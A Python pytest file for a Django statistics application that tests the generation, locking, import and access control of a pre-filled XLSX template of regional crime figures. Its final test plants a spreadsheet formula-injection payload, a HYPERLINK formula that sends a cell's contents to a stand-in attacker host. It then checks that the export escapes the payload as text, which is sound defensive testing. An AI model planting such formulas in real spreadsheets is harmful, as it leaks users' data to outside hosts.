"""The pre-filled statistics template (issue 18): written in the import's format with
names and reference figures, locked but for `value`, and imported back as it is."""

import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.utils import translation
from openpyxl import load_workbook

from agencies.roles import PROJECT_OFFICE_GROUP
from initiatives.models import ImportBatch, Indicator, IndicatorSource, Value
from initiatives.periods import Period
from initiatives.statistics.selectors import previous_period, statistics_template_read
from initiatives.statistics.services import StatisticsImportError, statistics_import
from initiatives.statistics.template import statistics_template_xlsx
from regions.models import Region, RegionKind
from tests.factories import RegionFactory, UserFactory

pytestmark = pytest.mark.django_db

Q3 = Period.parse("2025-Q3")


@pytest.fixture
def district(astana: Region) -> Region:
    return RegionFactory(kato="711100000", parent=astana, kind=RegionKind.CITY_DISTRICT, name_en="Almaty district")


@pytest.fixture
def figures(astana: Region, district: Region) -> None:
    """Thefts in Astana by month; the district's by quarter; registered offences for one
    month of the second quarter only (so that quarter is incomplete)."""
    rows = [
        "710000000,2024-07,crime.theft,100",
        "710000000,2024-08,crime.theft,110",
        "710000000,2024-09,crime.theft,120",
        "710000000,2025-04,crime.theft,90",
        "710000000,2025-05,crime.theft,95",
        "710000000,2025-06,crime.theft,0",
        "711100000,2024-Q3,crime.theft,40",
        "710000000,2025-04,crime.registered,700",
        "710000000,2024-Q3,cases.electronic_share,92.5",
    ]
    statistics_import(source=io.BytesIO(("region,period,indicator,value\n" + "\n".join(rows) + "\n").encode()))


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def by_key(sheet) -> dict[tuple[str, str], dict[str, object]]:
    header = [cell.value for cell in sheet[1]]
    return {
        (row[0], row[3]): dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    }


def statistics_kpis() -> int:
    return Indicator.objects.filter(source=IndicatorSource.LEGAL_STATISTICS, numerator__isnull=True).count()


def test_the_template_has_a_row_per_statistics_kpi_and_unit_with_hand_computed_reference_figures(
    figures, astana, district
) -> None:
    RegionFactory(parent=astana)  # a settlement straight under Astana is not a district: not in the template
    sheet = workbook(statistics_template_xlsx(statistics_template_read(region=astana, period=Q3))).worksheets[0]
    assert [cell.value for cell in sheet[1]] == [
        "region",
        "region_name",
        "period",
        "indicator",
        "indicator_name",
        "value",
        "last_year",
        "last_period",
    ]
    rows = by_key(sheet)
    assert len(rows) == 2 * statistics_kpis() and {kato for kato, _ in rows} == {"710000000", "711100000"}
    theft = rows[("710000000", "crime.theft")]
    assert (theft["region_name"], theft["period"], theft["indicator_name"]) == (
        "Astana",
        "2025-Q3",
        "Thefts (art. 188 of the Criminal Code)",
    )
    assert theft["value"] is None
    assert (theft["last_year"], theft["last_period"]) == (100 + 110 + 120, 90 + 95 + 0)
    district_theft = rows[("711100000", "crime.theft")]
    assert (district_theft["region_name"], district_theft["last_year"], district_theft["last_period"]) == (
        "Almaty district",
        40,
        None,
    )
    # One month of the three: the quarter is incomplete, so no figure rather than an under-count.
    assert rows[("710000000", "crime.registered")]["last_period"] is None
    assert rows[("710000000", "cases.electronic_share")]["last_year"] == 92.5
    assert "crime.registered_per_10k" not in {code for _, code in rows}  # computed, never imported


def test_previous_periods_are_the_same_kind_and_year_to_date_shrinks_by_a_month() -> None:
    assert str(previous_period(Period.parse("2025-09"))) == "2025-08"
    assert str(previous_period(Period.parse("2025-Q1"))) == "2024-Q4"
    assert str(previous_period(Period.parse("2025-H2"))) == "2025-H1"
    assert str(previous_period(Period.parse("2025"))) == "2024"
    assert str(previous_period(Period.parse("2025-01/2025-09"))) == "2025-01/2025-08"


def test_only_the_value_cells_are_unlocked_and_the_codes_are_held_to_lists(figures, astana, district) -> None:
    book = workbook(statistics_template_xlsx(statistics_template_read(region=astana, period=Q3)))
    sheet = book.worksheets[0]
    assert sheet.protection.sheet is True
    unlocked = {cell.column_letter for row in sheet.iter_rows(min_row=2) for cell in row if not cell.protection.locked}
    assert unlocked == {"F"}
    checks = {(v.type, str(v.sqref), v.formula1) for v in sheet.data_validations.dataValidation}
    last = sheet.max_row
    assert ("list", f"A2:A{last}", "=lists!$A$1:$A$2") in checks
    assert ("list", f"D2:D{last}", f"=lists!$B$1:$B${statistics_kpis()}") in checks
    lists = book["lists"]
    assert lists.sheet_state == "hidden"
    assert [lists.cell(i, 1).value for i in (1, 2)] == ["710000000", "711100000"]


def test_a_filled_template_imports_as_it_is_landing_exactly_its_values_and_skipping_the_empty_rows(
    figures, astana, district, tmp_path: Path
) -> None:
    out = tmp_path / "t.xlsx"
    call_command("statistics_template", region="710000000", period="2025-Q3", out=out, stdout=io.StringIO())
    book = load_workbook(out)
    sheet = book.worksheets[0]
    filled = {
        ("710000000", "crime.theft"): 321,
        ("711100000", "crime.theft"): 44,
        ("710000000", "cases.electronic_share"): 93.25,
    }
    for row in sheet.iter_rows(min_row=2):
        key = (row[0].value, row[3].value)
        if key in filled:
            row[5].value = filled[key]
    book.save(out)
    before = Value.objects.count()

    printed = io.StringIO()
    call_command("import_statistics", str(out), stdout=printed)

    total = 2 * statistics_kpis()
    assert f"skipped {total - 3} template row(s) left without a value" in printed.getvalue()
    batch = ImportBatch.objects.latest("created_at")
    assert (batch.rows, batch.created, batch.skipped) == (3, 3, total - 3)
    assert Value.objects.count() == before + 3
    landed = {
        (v.region.kato, v.indicator.code): v.value
        for v in Value.objects.filter(import_batch=batch).select_related("region", "indicator")
    }
    assert landed == {key: Decimal(str(number)) for key, number in filled.items()}
    assert {str(v.period) for v in Value.objects.filter(import_batch=batch)} == {"2025-Q3"}


def test_a_template_with_nothing_filled_is_refused_saying_so(astana, tmp_path: Path) -> None:
    data = statistics_template_xlsx(statistics_template_read(region=astana, period=Q3))
    with pytest.raises(StatisticsImportError) as refused:
        statistics_import(source=io.BytesIO(data), filename="t.xlsx")
    [problem] = refused.value.errors
    assert (problem.code, problem.params) == ("nothing_filled", {"skipped": statistics_kpis()})


def test_a_plain_file_with_an_empty_value_is_still_refused_not_skipped() -> None:
    with pytest.raises(StatisticsImportError) as refused:
        statistics_import(
            source=io.BytesIO(b"region,period,indicator,value\n710000000,2025-09,crime.theft,\n"), filename="x.csv"
        )
    assert [(e.line, e.code) for e in refused.value.errors] == [(2, "empty_value")]


def test_a_wrong_value_in_a_template_is_reported_on_its_line(astana, tmp_path: Path) -> None:
    book = workbook(statistics_template_xlsx(statistics_template_read(region=astana, period=Q3)))
    book.worksheets[0].cell(3, 6).value = "12,5"
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    with pytest.raises(StatisticsImportError) as refused:
        statistics_import(source=out, filename="t.xlsx")
    assert [(e.line, e.column, e.code) for e in refused.value.errors] == [(3, "value", "number_format")]


def test_the_office_downloads_a_template_from_the_imports_page(client, office, figures, astana) -> None:
    client.force_login(office)
    listing = client.get("/admin/initiatives/importbatch/")
    assert "/admin/initiatives/importbatch/template/" in listing.content.decode()
    response = client.get("/admin/initiatives/importbatch/template/", {"region": astana.pk, "period": "2025-Q3"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="statistics-710000000-2025-Q3.xlsx"'
    rows = by_key(workbook(response.content).worksheets[0])
    assert rows[("710000000", "crime.theft")]["last_year"] == 330
    form = client.get("/admin/initiatives/importbatch/template/", {"region": astana.pk, "period": "2025-13"})
    assert form.status_code == 200 and "is not a valid period" in form.content.decode()


def test_no_one_but_the_office_downloads_a_template(client, coordinator_astana, astana) -> None:
    client.force_login(coordinator_astana)
    url = "/admin/initiatives/importbatch/template/"
    assert client.get(url, {"region": astana.pk, "period": "2025-Q3"}).status_code == 302  # to the admin's log-in
    other_staff = UserFactory(username="helpdesk", is_staff=True)
    assert not other_staff.groups.filter(name=PROJECT_OFFICE_GROUP).exists()
    client.force_login(other_staff)
    assert client.get(url, {"region": astana.pk, "period": "2025-Q3"}).status_code == 403
    assert Group.objects.filter(name=PROJECT_OFFICE_GROUP).exists()


def test_the_templates_query_count_does_not_grow_with_its_districts(
    client, office, figures, astana, district, assert_queries_do_not_grow
) -> None:
    client.force_login(office)

    def download() -> None:
        assert (
            client.get(
                "/admin/initiatives/importbatch/template/", {"region": astana.pk, "period": "2025-Q3"}
            ).status_code
            == 200
        )

    def more_districts() -> None:
        for n in range(2, 6):
            RegionFactory(kato=f"71{n}100000", parent=astana, kind=RegionKind.CITY_DISTRICT)

    assert_queries_do_not_grow(download, more_districts, budget=8)


def test_a_name_that_reads_as_a_formula_is_written_as_text(figures, astana) -> None:
    """The template's names go through the project's formula rule (projectoffice.cell_safety),
    as every other XLSX does: openpyxl would store `=...` as a live formula."""
    Indicator.objects.filter(code="crime.theft").update(name_en='=HYPERLINK("http://evil.example/?x="&A1,"open")')
    Region.objects.filter(pk=astana.pk).update(name_en="@SUM(1+1)")
    with translation.override("en"):
        data = statistics_template_xlsx(statistics_template_read(region=astana, period=Q3))
    row = by_key(workbook(data).worksheets[0])[("710000000", "crime.theft")]
    assert row["indicator_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'
    assert row["region_name"] == "'@SUM(1+1)"
